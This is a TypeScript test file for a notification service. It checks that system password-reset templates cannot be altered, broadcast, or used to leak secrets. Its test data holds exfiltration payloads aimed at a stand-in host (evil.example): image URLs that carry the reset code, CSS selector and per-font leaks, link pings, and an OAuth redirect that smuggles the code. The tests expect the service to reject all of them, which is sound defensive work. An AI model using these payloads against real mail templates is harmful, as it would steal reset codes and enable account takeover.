import { test } from '@japa/runner'
import type { ApiClient } from '@japa/api-client'
import Application from '#app/applications/models/application'
import Broadcast from '#app/broadcasts/models/broadcast'
import NotificationTemplate from '#app/notifications/models/notification_template'
import NotificationType from '#app/notifications/models/notification_type'
import TemplateVersion from '#app/notifications/models/template_version'
import { ace } from '#tests/helpers/ace'
import { aKeyOf, serverWith } from '#tests/helpers/application_keys'
import { aBroadcast, waitForBroadcastStatus, startBroadcastWorker } from '#tests/helpers/broadcasts'
import { notificationsOf } from '#tests/helpers/deliveries'
import { panelPerson } from '#tests/helpers/panel_people'
import { anApplication, signedIn, superAdmin, uniqueCode, uniqueEmail } from '#tests/helpers/people'
import {
  withRecipient,
  anOrganisation,
  postProviderMessage,
  withSigningKey,
} from '#tests/helpers/provider_hook'
import { passwordReset as passwordResetMail } from '#tests/helpers/provider_samples'
import { sameDatabase } from '#tests/helpers/same_database'
import { aTemplate, aType } from '#tests/helpers/templates'
import identityProvider from '#config/identity_provider'
import { INTERNAL_KEY, SUPER_ADMIN, smtp } from '#tests/world/prepare'
import { startProductionService } from '#tests/world/production_service'

const TEXTS = {
  subjectTemplate: 'Reset',
  bodyTemplate: '<p>Reset</p><img src="https://evil.example/{{code}}">',
}

const passwordReset = (recipientEmail = uniqueEmail()) => ({
  recipientEmail,
  appCode: 'auth',
  type: 'auth_idp',
  template: 'password_reset',
  data: { code: 'Q4MN8Z', url: 'https://evil.example/' },
})

async function resetTemplate() {
  const { id } = await Application.withCode('auth')
  const type = await NotificationType.findByOrFail({ applicationId: id, code: 'auth_idp' })
  return NotificationTemplate.findByOrFail({ notificationTypeId: type.id, key: 'password_reset' })
}

/** Everything that changes or sends a system type, with a key that must not. */
async function attempts(client: ApiClient, key: string, base = '') {
  const server = serverWith(client, key, base)
  const { id } = await resetTemplate()
  return [
    await server.post('/notifications/types/auth/auth_idp/templates', {
      key: uniqueCode(),
      name: 'Mine',
    }),
    await server.put(`/notifications/templates/${id}`, { name: 'Mine' }),
    await server.put(`/notifications/templates/${id}/locales/en`, TEXTS),
    await server.delete(`/notifications/templates/${id}/locales/en`),
    await server.delete(`/notifications/templates/${id}`),
    await server.post('/notifications', passwordReset()),
  ]
}

async function requireUntouched() {
  const template = await resetTemplate()
  await template.load('versions', (versions) => versions.where('locale', 'en'))
  if (template.name === 'Mine' || template.versions[0].bodyTemplate.includes('evil')) {
    throw new Error('The template was changed')
  }
}

test.group('System notification types', () => {
  test("cannot be changed or sent with the platform's key in production", async ({
    client,
    cleanup,
    assert,
  }) => {
    const service = await startProductionService(sameDatabase())
    cleanup(async () => {
      await service.stop()
    })
    for (const response of await attempts(client, INTERNAL_KEY, service.url)) {
      response.assertProblem(403, 'SYSTEM_TYPE')
    }
    await requireUntouched()

    const server = serverWith(client, INTERNAL_KEY, service.url)
    const request = passwordReset()
    const bulk = await server.post('/notifications/bulk', { notifications: [request] })
    assert.containSubset(bulk.body().data, [{ id: null, status: 'failed', code: 'SYSTEM_TYPE' }])
    assert.lengthOf(smtp.mailsTo(request.recipientEmail), 0)
    assert.lengthOf(await notificationsOf(request.recipientEmail), 0)

    const { id } = await resetTemplate()
    const read = await server.get(`/notifications/templates/${id}/locales`)
    read.assertStatus(200)
  })

  test("can be changed with the platform's key only if the operator allows it", async ({
    client,
    cleanup,
  }) => {
    const service = await startProductionService({
      ...sameDatabase(),
      INTERNAL_KEY_EDITS_SYSTEM_TYPES: 'true',
    })
    cleanup(async () => {
      await service.stop()
    })
    const { id, name } = await resetTemplate()
    const server = serverWith(client, INTERNAL_KEY, service.url)
    const renamed = await server.put(`/notifications/templates/${id}`, { name })
    renamed.assertStatus(200)

    const { text } = await aKeyOf({ code: 'auth' })
    for (const response of await attempts(client, text, service.url)) {
      response.assertProblem(403, 'SYSTEM_TYPE')
    }
    await requireUntouched()
  })

  test('cannot be changed with application keys, even outside production', async ({
    client,
    assert,
  }) => {
    const { text } = await aKeyOf({ code: 'auth' })
    for (const response of await attempts(client, text)) {
      response.assertProblem(403, 'SYSTEM_TYPE')
    }
    await requireUntouched()
    const server = serverWith(client, text)
    const notifications = [passwordReset()]
    const bulk = await server.post('/notifications/bulk', { notifications })
    assert.equal(bulk.body().data[0].code, 'SYSTEM_TYPE')
    const read = await server.get('/notifications/templates/auth')
    read.assertStatus(200)
  })
})

test.group('Secrets in system mails', (group) => {
  withSigningKey(group)

  const leaking = '<p>Your code is {{code}}</p><img src="https://evil.example/{{code}}">'

  test('cannot be sent to another host by a template, even of a super admin', async ({
    client,
    assert,
  }) => {
    const { id } = await resetTemplate()
    const path = `/api/admin/notifications/templates/${id}/locales/en`
    const bodyTemplate = `<p>Hello</p>\n${leaking}`
    const saved = await superAdmin(client).put(path, { subjectTemplate: 'Reset', bodyTemplate })
    saved.assertProblem(400, 'SECRET_EXPOSED', { variable: 'code', line: 2 })
    await requireUntouched()

    const application = await anApplication()
    const own = await aTemplate(application, await aType(application))
    const ordinary = await superAdmin(client).put(
      `/api/admin/notifications/templates/${own.id}/locales/en`,
      { subjectTemplate: 'Coupon', bodyTemplate: leaking }
    )
    ordinary.assertStatus(200)
    assert.containSubset(ordinary.body().data.warnings, [
      { code: 'UNKNOWN_VARIABLE', value: 'code' },
    ])
  })

  test('cannot be sent elsewhere by {0}')
    .with([
      [
        'a style sheet that reads the link',
        'Reset',
        '<style>@media all{[href*="AA"]{--A:url(//e.co/AA)}a{background:var(--A,none)}}</style><a href="{{url}}">Reset</a>',
      ],
      [
        'a font for each letter',
        'Reset',
        '<style>@media all{@\\66 ont-face{font-family:x;src:url(//e.co/A);unicode-range:U+41}}</style>{{code}}',
      ],
      ['the name of the brand', 'Reset', '<p>{{orgName}}{{code}}</p>'],
      ['an address in brackets', 'Reset', '<p>https://evil.example/({{code}})</p>'],
      ['the name of a host', 'Reset', '<p>evil.example/{{code}}</p>'],
      ['an address in several elements', 'Reset', '<p><b>https:/</b>/evil.example/{{code}}</p>'],
      ['the name of the brand in an element', 'Reset', '<p><b>{{orgName}}</b>{{code}}</p>'],
      ['reports of a click', 'Reset', '<a href="{{url}}" ping="https://evil.example/">Reset</a>'],
      ['its subject', '{{orgName}}{{code}}', '<p>{{code}}</p>'],
      [
        'the authorization endpoint of the provider',
        'Reset',
        `<a href="${identityProvider.publicUrl}/oauth/v2/authorize?redirect_uri=https://evil.example&amp;state={{code}}">Reset</a>`,
      ],
      ['an address in its subject', 'evil.example/{{code}}', '<p>Reset</p>'],
    ] as const)
    .run(async ({ client }, [, subjectTemplate, bodyTemplate]) => {
      const { id } = await resetTemplate()
      const path = `/api/admin/notifications/templates/${id}/locales/en`
      const saved = await superAdmin(client).put(path, { subjectTemplate, bodyTemplate })
      const field = subjectTemplate === 'Reset' ? 'bodyTemplate' : 'subjectTemplate'
      saved.assertProblem(400, 'SECRET_EXPOSED', { field })
      await requireUntouched()
    })

  test('can be used in a template with plain styles and an image', async ({ client, cleanup }) => {
    const { id } = await resetTemplate()
    const version = await TemplateVersion.findByOrFail({ notificationTemplateId: id, locale: 'en' })
    const before = { ...version.$attributes }
    cleanup(async () => void (await version.merge(before).save()))
    const path = `/api/admin/notifications/templates/${id}/locales/en`
    const saved = await superAdmin(client).put(path, {
      subjectTemplate: '{{orgName}}: {{code}}',
      bodyTemplate: `<style>p{color:#333}@media (max-width:600px){p{font-size:18px}}</style>
        <img src="https://pictures.example/logo.png"><p>"({{code}})", Code: {{code}}, <b>{{code}}</b></p>
        <p>{{code}}.</p><a href="{{url}}" style="color:{{brandColor}}">Reset</a>`,
    })
    saved.assertStatus(200)
  })

  test('cannot be sent elsewhere by the {$self} of an existing template')
    .with(['inlinedBody', 'subjectTemplate'] as const)
    .run(async ({ assert, cleanup }, field) => {
      const { id: organisation, server } = await anOrganisation()
      const { id: notificationTemplateId } = await resetTemplate()
      const version = await TemplateVersion.findByOrFail({ notificationTemplateId, locale: 'en' })
      const before = version[field]
      cleanup(async () => {
        await version.merge({ [field]: before }).save()
        await server.stop()
      })
      await version
        .merge({ [field]: field === 'inlinedBody' ? leaking : '{{orgName}}{{code}}' })
        .save()
      const email = uniqueEmail()
      const response = await postProviderMessage(
        withRecipient(passwordResetMail(), organisation, email)
      )
      assert.equal(response.templateSource, 'idp')
      const [mail] = server.mailsTo(email)
      assert.exists(mail)
      assert.notInclude(JSON.stringify(mail), 'evil.example')
    })
})

test.group('Broadcasts of system types', () => {
  const broadcast = {
    type: 'auth_idp',
    template: 'password_reset',
    data: { code: 'Q4MN8Z', url: 'https://evil.example/' },
  }
  const path = '/api/admin/notifications/broadcast/auth'

  test('are refused to everyone, even scheduled', async ({ client, assert }) => {
    const globalAdmin = await panelPerson(client, {}, { globally: 'edit' })
    const recipient = uniqueEmail()
    for (const email of [globalAdmin, SUPER_ADMIN]) {
      for (const audience of [{ kind: 'emails', emails: [recipient] }, { kind: 'all' }]) {
        for (const scheduledAt of [undefined, '2099-01-01T00:00:00.000Z']) {
          const response = await signedIn(client, email).post(path, {
            ...broadcast,
            audience,
            scheduledAt,
          })
          response.assertProblem(403, 'SYSTEM_TYPE')
        }
      }
    }
    assert.lengthOf(smtp.mailsTo(recipient), 0)
    assert.isNull(await Broadcast.findBy({ type: 'auth_idp' }))
  })

  test('are refused to operators, even as a dry run', async ({ assert }) => {
    const args = ['broadcast:send', 'auth', '--type=auth_idp', '--template=password_reset']
    const data = `--data=${JSON.stringify(broadcast.data)}`
    const to = ['--to=emails', `--email=${uniqueEmail()}`, '--json']
    for (const more of [['--dry-run'], []]) {
      const { code, stdout } = await ace(...args, data, ...to, ...more)
      assert.equal(code, 1)
      assert.equal(JSON.parse(stdout).error.code, 'SYSTEM_TYPE')
    }
  })

  test('end without sending if one exists', async ({ assert, cleanup }) => {
    const application = await anApplication()
    const email = uniqueEmail()
    const { id, type } = await aBroadcast(application, {
      audience: { kind: 'emails', emails: [email] },
      scheduledAt: '2099-01-01T00:00:00.000Z',
    })
    await NotificationType.query().where({ applicationId: application.id, code: type }).update({
      system: true,
    })
    await Broadcast.query().where('id', id).update({ status: 'running' })
    startBroadcastWorker(cleanup)
    const { statusReason } = await waitForBroadcastStatus(id, 'failed')
    assert.match(statusReason!, /^SYSTEM_TYPE: /)
    assert.lengthOf(smtp.mailsTo(email), 0)
  })
})
